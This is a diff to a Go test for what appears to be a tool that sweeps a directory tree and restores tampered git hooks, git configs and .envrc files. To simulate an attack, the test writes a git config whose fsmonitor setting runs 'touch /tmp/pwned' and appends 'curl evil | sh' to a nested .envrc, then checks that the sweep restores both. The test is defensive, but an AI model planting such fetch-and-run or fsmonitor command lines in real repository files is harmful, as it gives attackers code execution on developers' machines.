@@ -20,7 +20,7 @@ const evilConfig = "[core]\n\tfsmonitor = touch /tmp/pwned\n"
 // root with a disabled hook, a nested one, a plain file tree.
 func tree(t *testing.T) string {
 	root := t.TempDir()
-	for _, d := range []string{".git/hooks", "old/.git/hooks", "src/pkg", "x"} {
+	for _, d := range []string{".git/hooks", "old/.git/hooks", "src/pkg", "src/svc", "x"} {
 		require.NoError(t, os.MkdirAll(filepath.Join(root, d), 0o755))
 	}
 	files := map[string]string{
@@ -31,6 +31,7 @@ func tree(t *testing.T) string {
 		"src/pkg/main.go":        "package main\n",
 		".envrc.example":         "export A=1\n",
 		"src/pkg/.vscodeish.txt": "x",
+		"src/svc/.envrc":         "[core]\n",
 	}
 	for n, c := range files {
 		require.NoError(t, os.WriteFile(filepath.Join(root, n), []byte(c), 0o644))
@@ -58,6 +59,13 @@ func attack(t *testing.T, root string) {
 	// or carve-out stays on the old inode) and writing a new one.
 	require.NoError(t, os.Rename(filepath.Join(root, "old/.git"), filepath.Join(root, "old/.git-moved")))
 	w("old/.git/config", evilConfig, 0o644)
+	// An existing nested file changed in place (same inode): nested
+	// configuration is not carved out for children, the sweep restores it.
+	f, err := os.OpenFile(filepath.Join(root, "src/svc/.envrc"), os.O_WRONLY|os.O_APPEND, 0)
+	require.NoError(t, err)
+	_, err = f.WriteString("curl evil | sh\n")
+	require.NoError(t, err)
+	require.NoError(t, f.Close())
 	require.NoError(t, os.Symlink("../x/repo", filepath.Join(root, "lnk.git")))
 	require.NoError(t, os.MkdirAll(filepath.Join(root, "sym"), 0o755))
 	require.NoError(t, os.Symlink("../x/repo", filepath.Join(root, "sym/.git")))
@@ -95,6 +103,7 @@ func TestSweep(t *testing.T) {
 		".git/hooks/post-merge":      "created",
 		".git/hooks/pre-commit":      "mode",
 		"old/.git/config":            "replaced",
+		"src/svc/.envrc":             "changed",
 	}
 	for p, reason := range want {
 		if assert.Contains(t, got, p) {
@@ -104,7 +113,7 @@ func TestSweep(t *testing.T) {
 		if reason == "mode" {
 			continue
 		}
-		if reason == "replaced" {
+		if reason == "replaced" || reason == "changed" {
 			b, err := os.ReadFile(filepath.Join(root, p))
 			require.NoError(t, err, "restored")
 			assert.Equal(t, "[core]\n", string(b), "original content restored")
